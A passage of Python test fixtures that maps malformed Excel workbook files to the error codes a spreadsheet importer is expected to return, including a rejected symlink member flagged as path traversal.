    "rows_out_of_order.xlsx": (_cc("rows_out_of_order.xlsx", _rows_out_of_order),
                               "CORRUPT_WORKBOOK"),
    "nested_runs.xlsx": (_cc("nested_runs.xlsx", _nested("Lieux")), "CORRUPT_WORKBOOK"),
    "nested_runs_unread_sheet.xlsx": (_cc("nested_runs_unread_sheet.xlsx",
                                          _nested("Lisez-moi")), "ok"),
    "nested_runs_formula.xlsx": (_cc("nested_runs_formula.xlsx",
                                     _nested("Lisez-moi", formula=True)), "INPUT_FILE_ERROR"),
    "nan_quantity.xlsx": (_cc("nan_quantity.xlsx", _nan), "errors"),
    "tiny_budget.xlsx": (_cc("tiny_budget.xlsx", lambda d: carbonclap_bytes(
        d, production={"budget_keur": 1e-320})), "ok"),
    "symlink_member.xlsx": (_cc("symlink_member.xlsx", _symlink), "PATH_TRAVERSAL"),
}
